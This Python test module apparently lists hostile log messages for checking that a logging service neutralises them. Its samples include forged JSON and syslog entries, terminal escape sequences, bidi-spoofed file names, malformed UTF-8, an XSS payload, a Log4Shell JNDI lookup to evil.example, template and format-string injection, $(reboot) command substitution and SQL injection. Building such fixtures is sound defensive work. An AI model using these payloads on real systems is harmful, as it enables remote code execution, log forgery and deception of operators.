"""Messages that are meant to harm: whoever reads the log, its file, a terminal, a page, or the entries beside them."""

from __future__ import annotations

import json

FORGED = b'{"Time":"2026-01-31T12:00:00.000Z","Received":"2026-01-31T12:00:00.000Z","Service":"Bank","Level":"info","Message":"paid"}'

MESSAGES = (
    b"a\nb",
    b"a\r\nb",
    b"a\rb",
    b"a\n" + FORGED + b"\nb",
    b"a\r\n2026-01-31T12:00:00.000Z Bank info  paid",
    b'"}\n' + FORGED + b'\n{"Message":"',
    b'\\"}\\n' + FORGED,
    FORGED,
    b'{"Check":"00000000","Bytes":12}',
    b'{"Check":',
    b'{"Gap":17,"From":"2026-01-31T12:00:00.000Z","To":"2026-01-31T12:00:00.000Z","Service":"Bank","Message":"17 entries are missing"}',
    b"17 entries of Bank are missing: \x00 dropped",
    b"[Bank] - paid",
    b"<14>1 2026-01-31T12:00:00Z bank Bank - - - paid",
    b"<34>Jan 31 12:00:00 bank Bank[1]: paid",
    b'[ex@32473 Gap="5"] paid',
    b"20 <14>1 - - Bank - - - x",
    b"a\x00b",
    b"\x00",
    b"a\x1b[2J\x1b[31mred\x1b[0m",
    b"a\x1b]0;title\x07b",
    b"a\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\",
    b"a\x08\x08\x08overwritten",
    b"a\x7f\x0b\x0cb",
    "a\u009b31mC1\u0085b".encode(),
    b"a\x9b31m\x85raw C1",
    "a\u202egnp.exe\u202c".encode(),
    "a\u2066b\u2069\u200f\u061cc".encode(),
    "a\u2028b\u2029c".encode(),
    "a\ufeffb".encode(),
    b"\xff\xfea\x00",
    "a\U000e0041\U000e0042\U000e007fb".encode(),
    "a\ufff9b\ufffac\ufffb".encode(),
    b"a\xed\xa0\x80b",
    b"a\xed\xb0\x80\xed\xa0\x80b",
    b"a\xc0\xaf\xe0\x80\xaf\xf0\x80\x80\xafoverlong",
    b"a\xf4\x90\x80\x80\xf8\x88\x80\x80\x80beyond Unicode",
    b"a\xc3",
    b"</script><script>alert(1)</script><img src=x onerror=alert(1)>",
    b"${jndi:ldap://evil.example/a} {{7*7}} %s%n%x $(reboot) `reboot`",
    b"'; DROP TABLE logs; --",
    b"data: x\n\nevent: entry\ndata: " + FORGED,
    b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
    "Z\u0351\u036b\u0343\u036aa\u0300\u0301\u0302".encode() * 50,
    b"\t" * 1000,
    b'"\\' * 1000,
    b"[" * 5000,
)


def in_json(message: bytes) -> bytes:
    """Return a message as a JSON string: lone surrogates as escapes, bytes that are no UTF-8 as they are."""
    try:
        return json.dumps(message.decode("utf-8", "surrogatepass")).encode()
    except UnicodeDecodeError:
        escaped = message.replace(b"\\", b"\\\\").replace(b'"', b'\\"')
        return b'"' + b"".join(b"\\u%04x" % one if one < 0x20 else bytes((one,)) for one in escaped) + b'"'


def plain(message: bytes | str) -> str:
    """Return what has to be left of a message: all of it but what is no character at all, however many replacements stand for that."""
    text = message if isinstance(message, str) else message.decode("utf-8", "replace")
    return text.replace("\ufffd", "")
